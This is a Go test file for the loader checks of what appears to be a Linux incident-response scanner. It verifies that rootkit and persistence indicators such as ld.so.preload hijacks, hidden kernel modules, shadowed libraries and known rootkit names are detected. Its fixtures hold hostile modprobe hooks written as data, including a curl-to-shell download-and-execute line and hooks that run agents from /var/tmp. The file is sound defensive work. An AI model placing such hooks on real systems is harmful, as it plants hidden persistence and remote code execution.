package loader

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/vigil-ir/vigil/internal/catalog"
	"github.com/vigil-ir/vigil/internal/engine"
	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/target"
	"github.com/vigil-ir/vigil/internal/testutil"
	"github.com/vigil-ir/vigil/internal/testutil/dpkgfixture"
)

const kernel = "6.1.0-28-amd64"

var libdir = "/usr/lib/x86_64-linux-gnu/"

// packages of the clean fixture. Files are listed with their /usr path
// (Debian 12 is merged-usr, dpkg lists some with /lib).
var debianPackages = []dpkgfixture.Package{
	{Name: "libc-bin", Files: []string{"/etc/ld.so.conf", "/etc/ld.so.conf.d/libc.conf"}},
	{Name: "libc6", MultiArch: true, Files: []string{"/etc/ld.so.conf.d/x86_64-linux-gnu.conf", libdir + "libc.so.6", libdir + "libcrypt.so.1"}},
	{Name: "libfakeroot", MultiArch: true, Files: []string{"/etc/ld.so.conf.d/fakeroot-x86_64-linux-gnu.conf", libdir + "libfakeroot/libfakeroot-sysv.so", libdir + "libfakeroot/libfakeroot-tcp.so"}},
	{Name: "libpam0g", MultiArch: true, Files: []string{libdir + "libpam.so.0", libdir + "libpam.so.0.85.1"}},
	{Name: "libkeyutils1", MultiArch: true, Files: []string{libdir + "libkeyutils.so.1", libdir + "libkeyutils.so.1.10"}},
	{Name: "libssl3", MultiArch: true, Files: []string{libdir + "libssl.so.3", libdir + "libcrypto.so.3"}},
	{Name: "zlib1g", MultiArch: true, Files: []string{libdir + "libz.so.1"}},
	{Name: "libsystemd0", MultiArch: true, Files: []string{libdir + "libsystemd.so.0"}},
	{Name: "libjemalloc2", MultiArch: true, Files: []string{libdir + "libjemalloc.so.2"}},
	{Name: "snoopy", Files: []string{libdir + "libsnoopy.so"}},
	{Name: "kmod", Files: []string{"/usr/lib/modprobe.d/aliases.conf"}},
	{Name: "systemd", Files: []string{"/usr/lib/modprobe.d/systemd.conf"}},
	{Name: "fuse3", Files: []string{"/usr/lib/modules-load.d/fuse3.conf"}},
	{Name: "linux-image-" + kernel, Files: []string{
		"/usr/lib/modules/" + kernel + "/kernel/net/bridge/br_netfilter.ko",
		"/usr/lib/modules/" + kernel + "/kernel/fs/overlayfs/overlay.ko",
		"/usr/lib/modules/" + kernel + "/kernel/fs/fuse/fuse.ko",
		"/usr/lib/modules/" + kernel + "/kernel/drivers/net/dummy.ko",
		"/usr/lib/modules/" + kernel + "/kernel/fs/ext4/ext4.ko",
		"/usr/lib/modules/" + kernel + "/kernel/net/ipv4/netfilter/iptable_nat.ko",
		"/usr/lib/modules/" + kernel + "/modules.builtin",
	}},
}

// fixture materialises the clean root and its dpkg database, then lays the
// txtar files of extra over it (unowned unless a package lists them; a
// packaged file they replace no longer matches its digest).
func fixture(t testing.TB, extra string) string {
	t.Helper()
	clean, err := os.ReadFile("testdata/clean.txtar")
	if err != nil {
		t.Fatal(err)
	}
	dir := testutil.RootFromString(t, string(clean))
	dpkgfixture.Write(t, dir, debianPackages...)
	if extra != "" {
		dpkgfixture.Overlay(t, dir, testutil.RootFromString(t, extra))
	}
	return dir
}

// live is the /proc and /sys of a running clean kernel.
const live = `-- proc/sys/kernel/osrelease --
6.1.0-28-amd64
-- proc/sys/kernel/tainted --
0
-- proc/modules --
br_netfilter 32768 0 - Live 0x0000000000000000
overlay 163840 2 - Live 0x0000000000000000
fuse 176128 3 - Live 0x0000000000000000
ext4 1048576 1 - Live 0x0000000000000000
-- sys/module/br_netfilter/initstate --
live
-- sys/module/overlay/initstate --
live
-- sys/module/fuse/initstate --
live
-- sys/module/ext4/initstate --
live
-- sys/module/loop/parameters/max_loop --
0
`

func TestCleanIsQuiet(t *testing.T) {
	for _, isLive := range []bool{false, true} {
		extra := ""
		if isLive {
			extra = live
		}
		r := enginetest.Run(t, New(), fixture(t, extra), isLive)
		enginetest.Quiet(t, r.Findings, model.Low)
		// The DKMS build is context.
		if !r.Has(ruleUnownedModule, "/usr/lib/modules/"+kernel+"/updates/dkms/zfs.ko") {
			t.Errorf("live=%v: DKMS module not listed: %v", isLive, r.Rules())
		}
		for _, g := range r.Gaps {
			if g.Kind != model.GapNotApplicable {
				t.Errorf("live=%v: unexpected gap %+v", isLive, g)
			}
		}
	}
}

func TestFires(t *testing.T) {
	elfKo := "\x7fELF\x02\x01\x01\x00 ... .modinfo\x00license=GPL\x00vermagic=6.1.0-28-amd64 SMP preempt mod_unload modversions \x00name=diamorphine\x00"
	tests := []struct {
		name    string
		extra   string
		live    bool
		rule    string
		subject string
		sev     model.Severity
		ind     string
	}{
		{"preload hidden unowned", "-- etc/ld.so.preload --\n/usr/lib/x86_64-linux-gnu/.libsys.so\n-- usr/lib/x86_64-linux-gnu/.libsys.so --\nELF\n", false, rulePreload, ".libsys.so", model.Critical, indHidden},
		{"preload unowned", "-- etc/ld.so.preload --\n/usr/local/lib/libprocesshider.so\n-- usr/local/lib/libprocesshider.so --\nELF\n", false, rulePreload, "libprocesshider", model.Critical, indNotPackaged},
		{"preload missing", "-- etc/ld.so.preload --\n/lib/libext.so.1\n", false, rulePreload, "libext", model.High, indMissing},
		{"preload packaged", "-- etc/ld.so.preload --\n/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n", false, rulePreload, "libjemalloc", model.High, "ld-preload"},
		{"preload snoopy", "-- etc/ld.so.preload --\n/usr/lib/x86_64-linux-gnu/libsnoopy.so\n", false, rulePreload, "libsnoopy", model.Medium, "ld-preload"},
		{"preload empty", "-- etc/ld.so.preload --\n\n", false, rulePreloadEmpty, "", model.Info, ""},
		{"libdir tmp", "-- etc/ld.so.conf.d/zz.conf --\n/tmp/.l\n", false, ruleLibDir, "/tmp/.l", model.High, indWritable},
		{"libdir hidden", "-- etc/ld.so.conf.d/zz.conf --\n/usr/share/.cache/lib\n", false, ruleLibDir, ".cache", model.High, indHidden},
		{"libdir unowned", "-- etc/ld.so.conf.d/app.conf --\n/opt/app/lib\n", false, ruleLibDir, "/opt/app/lib", model.Low, indNotPackaged},
		{"libdir via include in ld.so.conf", "-- etc/ld.so.conf --\ninclude /etc/ld.so.conf.d/*.conf\ninclude /var/tmp/ld/*.conf\n-- var/tmp/ld/x.conf --\n/dev/shm/l\n", false, ruleLibDir, "/dev/shm/l", model.High, indWritable},
		{"libkeyutils shadow", "-- usr/local/lib/libkeyutils.so.1 --\nELF trojan\n", false, ruleLibShadow, "/usr/local/lib/libkeyutils.so.1", model.Critical, indLibShadow},
		{"libssl shadow", "-- usr/local/lib/libssl.so.3 --\nELF custom build\n", false, ruleLibShadow, "/usr/local/lib/libssl.so.3", model.Medium, indLibShadow},
		{"shadow in added dir", "-- etc/ld.so.conf.d/0.conf --\n/opt/x/lib\n-- opt/x/lib/libpam.so.0 --\nELF\n", false, ruleLibShadow, "/opt/x/lib/libpam.so.0", model.Critical, indLibShadow},
		{"module not on disk", live + "-- proc/modules --\nbr_netfilter 32768 0 - Live 0x0000000000000000\ndiamorphine 16384 0 - Live 0x0000000000000000 (OE)\n-- sys/module/diamorphine/initstate --\nlive\n-- sys/module/br_netfilter/initstate --\nlive\n", true, ruleNotOnDisk, "module diamorphine", model.High, ""},
		{"module hidden from list", live + "-- sys/module/reptile_module/initstate --\nlive\n", true, ruleHidden, "module reptile_module", model.Critical, indHiddenModule},
		{"module hidden from sysfs", live + "-- proc/modules --\nbr_netfilter 32768 0 - Live 0x0000000000000000\nsneaky 16384 0 - Live 0x0000000000000000 (OE)\n", true, ruleHidden, "module sneaky", model.High, indHiddenModule},
		{"taint with module gone", live + "-- proc/sys/kernel/tainted --\n12288\n", true, ruleTainted, "kernel taint", model.Medium, ""},
		{"taint unexplained module", live + "-- proc/sys/kernel/tainted --\n12288\n-- proc/modules --\nhid 16384 0 - Live 0x0000000000000000 (OE)\n-- sys/module/hid/initstate --\nlive\n", true, ruleTainted, "kernel taint", model.Medium, ""},
		{"autoload unknown", "-- etc/modules-load.d/sys.conf --\nsysmond\n", false, ruleAutoload, "sysmond", model.High, indModuleUnknown},
		{"autoload in /etc/modules", "-- etc/modules --\nloop\nkthreadd_x\n", false, ruleAutoload, "kthreadd_x", model.High, indModuleUnknown},
		{"modprobe download", "-- etc/modprobe.d/usb.conf --\ninstall usb-storage /bin/sh -c 'curl -s http://203.0.113.7/u | sh'\n", false, ruleModprobe, "install usb-storage", model.Critical, "download-exec"},
		{"modprobe runs program", "-- etc/modprobe.d/dummy.conf --\ninstall dummy /usr/local/sbin/netd; /sbin/modprobe --ignore-install dummy\n", false, ruleModprobe, "install dummy", model.High, indModprobeRuns},
		{"modprobe tmp", "-- etc/modprobe.d/x.conf --\nremove ext4 \\\n  /var/tmp/.k/agent\n", false, ruleModprobe, "remove ext4", model.Critical, indWritable},
		{"stray module in tmp", "-- tmp/.x/diamorphine.ko --\n" + elfKo + "\n", false, ruleStray, "/tmp/.x/diamorphine.ko", model.Critical, indWritable},
		{"stray module in root", "-- root/Diamorphine/diamorphine.ko --\n" + elfKo + "\n", false, ruleStray, "/root/Diamorphine/diamorphine.ko", model.Critical, indKnownRootkit},
		{"stray module of another name in root", "-- root/build/netmon.ko --\n" + elfKo + "\n", false, ruleStray, "/root/build/netmon.ko", model.Medium, ""},
		{"rootkit module loaded", live + "-- proc/modules --\nbr_netfilter 32768 0 - Live 0x0000000000000000\nkovid 16384 0 - Live 0x0000000000000000 (OE)\n-- sys/module/kovid/initstate --\nlive\n-- sys/module/br_netfilter/initstate --\nlive\n", true, ruleKnownRootkitModule, "module kovid", model.Critical, indKnownRootkit},
		{"stray compressed module in etc", "-- etc/sysconfig/x.ko.xz --\n\xfd7zXZ\x00\x00\n", false, ruleStray, "/etc/sysconfig/x.ko.xz", model.High, ""},
		{"rootkit in modules-load.d", "-- etc/modules-load.d/sys.conf --\ndiamorphine\n", false, ruleKnownRootkitModule, "diamorphine", model.Critical, indKnownRootkit},
		{"rootkit in /etc/modules", "-- etc/modules --\nloop\nreptile-module\n", false, ruleKnownRootkitModule, "reptile-module", model.Critical, indKnownRootkit},
		{"rootkit options in modprobe.d", "-- etc/modprobe.d/x.conf --\noptions suterusu hide=1\n", false, ruleKnownRootkitModule, "suterusu", model.Critical, indKnownRootkit},
		{"rootkit alias in modprobe.d", "-- etc/modprobe.d/x.conf --\nalias net-pf-99 kovid\n", false, ruleKnownRootkitModule, "kovid", model.Critical, indKnownRootkit},
		{"rootkit softdep in modprobe.d", "-- etc/modprobe.d/x.conf --\nsoftdep ext4 post: adore-ng\n", false, ruleKnownRootkitModule, "adore-ng", model.Critical, indKnownRootkit},
		{"userland rootkit in /usr/local/lib", "-- usr/local/lib/libprocesshider.so --\nELF\n", false, ruleKnownRootkitFile, "/usr/local/lib/libprocesshider.so", model.Critical, indKnownRootkit},
		{"userland rootkit default path", "-- lib/libselinux.so --\nELF\n", false, ruleKnownRootkitFile, "/lib/libselinux.so", model.Critical, indKnownRootkit},
		{"userland rootkit in tmp", "-- tmp/.x/jynx2.so --\nELF\n", false, ruleKnownRootkitFile, "/tmp/.x/jynx2.so", model.Critical, indKnownRootkit},
		{"preload of a known rootkit", "-- etc/ld.so.preload --\n/XxJynx/reality.so\n", false, rulePreload, "reality.so", model.Critical, indKnownRootkit},
		{"unowned module in tree", "-- usr/lib/modules/" + kernel + "/kernel/drivers/net/e1000x.ko --\n" + elfKo + "\n", false, ruleUnownedModule, "e1000x.ko", model.Medium, indNotPackaged},
	}
	cat := catalog.MustLoad()
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := enginetest.Run(t, New(), fixture(t, tc.extra), tc.live)
			got := enginetest.Expect(t, r.Findings, []enginetest.Want{{Rule: tc.rule, Subject: tc.subject, Severity: tc.sev, Indicators: []string{tc.ind}}})[0]
			if got.RuleID == "" {
				return
			}
			if got.Evidence.Path == "" || got.Evidence.User == "" {
				t.Errorf("incomplete evidence: %+v", got.Evidence)
			}
			for _, f := range r.Findings {
				for _, id := range f.Indicators {
					if cat.Indicator(id, catalog.Chinese) == id {
						t.Errorf("indicator %s has no text", id)
					}
				}
			}
		})
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// The same hidden module is the same finding across scans, whatever the
// address or reference count in /proc/modules.
// Without a module tree, a rootkit's name is still judged; a blacklist line
// naming one is a defence.
func TestRootkitNameWithoutTree(t *testing.T) {
	dir := testutil.RootFromString(t, "-- etc/passwd --\nroot:x:0:0::/root:/bin/sh\n-- etc/modules-load.d/a.conf --\ndiamorphine\n-- etc/modprobe.d/b.conf --\nblacklist reptile\n")
	r := enginetest.Run(t, New(), dir, false)
	if len(r.Find(ruleKnownRootkitModule)) != 1 || !r.Has(ruleKnownRootkitModule, "/etc/modules-load.d/a.conf (diamorphine)") {
		t.Fatalf("got:\n%s", enginetest.Dump(r.Findings))
	}
}

func TestFingerprintStable(t *testing.T) {
	a := enginetest.Run(t, New(), fixture(t, live+"-- proc/modules --\nrk 16384 0 - Live 0xffffffffc0a00000 (OE)\n"), true)
	b := enginetest.Run(t, New(), fixture(t, live+"-- proc/modules --\nrk 20480 3 - Live 0xffffffffc0b00000 (OE)\n"), true)
	fa, fb := a.Find(ruleNotOnDisk), b.Find(ruleNotOnDisk)
	if len(fa) != 1 || len(fb) != 1 || fa[0].Fingerprint != fb[0].Fingerprint {
		t.Fatalf("fingerprints differ: %v / %v", fa, fb)
	}
}

// Without /proc/modules (a sandboxed kernel) nothing is "hidden".
func TestNoModuleListNoHidden(t *testing.T) {
	dir := fixture(t, "-- proc/sys/kernel/osrelease --\n"+kernel+"\n-- sys/module/x/initstate --\nlive\n")
	r := enginetest.Run(t, New(), dir, true)
	if len(r.Find(ruleHidden)) > 0 {
		t.Fatalf("hidden module without a module list: %v", r.Findings)
	}
}

func TestHostileFiles(t *testing.T) {
	dir := fixture(t, "-- etc/ld.so.conf.d/loop.conf --\ninclude /etc/ld.so.conf.d/*.conf\ninclude loop.conf\n-- etc/modprobe.d/\xff.conf --\ninstall x /tmp/y\n")
	if err := syscall.Mkfifo(filepath.Join(dir, "etc/ld.so.preload"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("a.conf", filepath.Join(dir, "etc/modprobe.d/a.conf")); err != nil {
		t.Fatal(err)
	}
	r := enginetest.Run(t, New(), dir, false)
	if !r.Has(ruleModprobe, "") {
		t.Errorf("file with a non-UTF-8 name not read")
	}
	gapped := map[string]bool{}
	for _, g := range r.Gaps {
		gapped[g.Path] = true
	}
	for _, p := range []string{"/etc/ld.so.preload", "/etc/modprobe.d/a.conf"} {
		if !gapped[p] {
			t.Errorf("no gap for %s: %+v", p, r.Gaps)
		}
	}
}

func FuzzParsers(f *testing.F) {
	f.Add("include /etc/ld.so.conf.d/*.conf\n/usr/local/lib # c\nhwcap 0 nosegneg\n/opt/x=libc6\n")
	f.Add("install snd /sbin/modprobe --ignore-install snd && { /sbin/modprobe x ; : ; }\noptions x y=1\\\n z=2\n")
	f.Add("x 16384 0 - Live 0x0 (OE)\nbad\n")
	f.Fuzz(func(t *testing.T, s string) {
		b := []byte(s)
		for _, e := range ParsePreload(b) {
			if e.Lib == "" || e.Line < 1 {
				t.Fatalf("bad preload entry %+v", e)
			}
		}
		ParseLdSoConf(b)
		ParseModulesLoad(b)
		for _, m := range ParseModprobe(b) {
			if m.Command != "" {
				JudgeModprobeCommand(m.Command)
			}
		}
		ParseProcModules(b)
		ModuleName(s)
	})
}

func BenchmarkLoader(b *testing.B) {
	dir := fixture(b, live)
	tg := target.NewUnchecked(dir, true)
	for b.Loop() {
		enginetest.RunTarget(b, New(), tg, engine.Options{})
	}
}

// A library directory others may write stays high, whatever its name.
func TestLibDirWritable(t *testing.T) {
	tests := []struct {
		name  string
		prep  func(dir string) error
		ind   string
		needs string
	}{
		{"world-writable", func(d string) error { return os.Chmod(filepath.Join(d, "opt/app/lib"), 0o777) }, "writable-location", ""},
		{"user-owned", func(d string) error { return os.Chown(filepath.Join(d, "opt/app"), 1000, 1000) }, "writable-by-non-root", "root"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if tc.needs == "root" && os.Geteuid() != 0 {
				t.Skip("chown needs root")
			}
			dir := fixture(t, "-- etc/ld.so.conf.d/app.conf --\n/opt/app/lib\n")
			if err := tc.prep(dir); err != nil {
				t.Fatal(err)
			}
			r := enginetest.Run(t, New(), dir, false)
			fs := r.Find(ruleLibDir)
			if len(fs) != 1 || fs[0].Severity != model.High || !contains(fs[0].Indicators, tc.ind) {
				t.Fatalf("want one high %s finding, got:\n%s", tc.ind, enginetest.Dump(r.Findings))
			}
		})
	}
}

// A damaged package database is said in every check that leans on
// ownership, once, through the inventory view.
func TestDamagedPackageDatabaseGap(t *testing.T) {
	dir := fixture(t, "")
	if err := os.WriteFile(filepath.Join(dir, "var/lib/dpkg/status"), []byte("\x00garbage\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r := enginetest.Run(t, New(), dir, false)
	n := 0
	for _, g := range r.Gaps {
		if g.Path == "/var/lib/dpkg/status" && strings.Contains(g.Reason, "could not be checked here") {
			n++
		}
	}
	if n == 0 {
		t.Fatalf("no gap for the damaged database: %+v", r.Gaps)
	}
}
